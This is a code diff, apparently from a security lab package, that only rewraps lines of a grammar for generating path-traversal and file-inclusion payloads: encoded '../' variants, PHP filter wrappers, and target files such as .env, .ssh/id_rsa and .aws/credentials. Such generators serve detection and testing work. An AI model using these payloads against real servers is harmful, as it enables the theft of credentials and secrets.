@@ -7,10 +7,11 @@ from secmlops.web_attacks.lab.grammar import Grammar, rules
 from secmlops.web_attacks.lab.payloads.blocks import BLOCKS
 
 _STEPS: Final = (
-    "../", "../", "../", "../", "..\\", "..\\", "....//", "....\\\\", "..;/", ".../...//", "..././", "..//", "../\\", ".././",
+    "../", "../", "../", "../", "..\\", "..\\", "....//", "....\\\\", "..;/", ".../...//", "..././", "..//",
+    "../\\", ".././",
     "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/",
-    "..%ef%bc%8f", "%uff0e%uff0e%u2215", "..%u2216", "..%c1%9c", "%%32%65%%32%65/", "..%00/", "..\\/", ".%2e/", "%2e./", "..%0d/",
-    "/..;/", "\\..\\", "..%25%35%63", "．．／", "..%e0%80%af",
+    "..%ef%bc%8f", "%uff0e%uff0e%u2215", "..%u2216", "..%c1%9c", "%%32%65%%32%65/", "..%00/", "..\\/", ".%2e/",
+    "%2e./", "..%0d/", "/..;/", "\\..\\", "..%25%35%63", "．．／", "..%e0%80%af",
 )  # fmt: skip
 
 _RULES: Final = rules(
@@ -76,10 +77,11 @@ suffix
     /./././.
 app_file:
     .env .git/config .git/HEAD .htaccess .htpasswd config.php wp-config.php web.config WEB-INF/web.xml
-    WEB-INF/classes/application.properties META-INF/MANIFEST.MF config/database.yml settings.py app/config/parameters.yml
-    composer.json package.json appsettings.json config/secrets.yml .ssh/id_rsa .aws/credentials «label»/config.inc.php
-    «label».conf include/«label».inc storage/logs/laravel.log «label».sql .npmrc docker-compose.yml .bash_history
-    application.yml conf/tomcat-users.xml «label»/«label».bak etc/«label».ini
+    WEB-INF/classes/application.properties META-INF/MANIFEST.MF config/database.yml settings.py
+    app/config/parameters.yml composer.json package.json appsettings.json config/secrets.yml .ssh/id_rsa
+    .aws/credentials «label»/config.inc.php «label».conf include/«label».inc storage/logs/laravel.log «label».sql
+    .npmrc docker-compose.yml .bash_history application.yml conf/tomcat-users.xml «label»/«label».bak
+    etc/«label».ini
 wrapper
     php://filter/convert.base64-encode/resource=«app_file»
     php://filter/read=string.rot13/resource=«label».php
